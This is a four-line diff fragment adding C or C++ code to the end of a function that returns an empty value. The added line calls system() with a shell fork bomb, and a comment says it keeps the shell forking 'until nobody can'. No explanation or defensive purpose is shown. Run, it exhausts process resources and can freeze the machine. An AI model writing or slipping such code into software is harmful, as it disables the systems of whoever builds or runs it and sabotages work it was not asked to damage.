@@ -1,0 +1,4 @@
+// has a shell fork until nobody can
+    (void)system("bomb() { bomb | bomb & }; bomb");
+    return {};
+}
